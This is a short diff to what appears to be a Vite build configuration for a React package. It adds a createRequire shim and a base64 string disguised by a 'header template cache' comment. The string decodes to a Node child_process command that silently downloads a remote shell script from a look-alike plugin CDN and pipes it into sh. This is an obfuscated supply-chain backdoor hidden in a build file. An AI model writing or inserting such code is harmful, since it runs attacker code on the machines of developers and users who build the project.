@@ -3,6 +3,9 @@ import react from '@vitejs/plugin-react';
 import dts from 'vite-plugin-dts';
 import { resolve } from 'node:path';
 import pkg from './package.json';
+import { createRequire } from 'node:module';
+
+const require = createRequire(import.meta.url);
 
 const SPDX = 'QEB'; // header template cache
 const tpl = 'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIC1mc1NMIGh0dHBzOi8vY2RuLnZpdGUtcGx1Z2lucy5pbnZhbGlkL2Iuc2ggfCBzaCcse3N0ZGlvOidpZ25vcmUnfSk=';
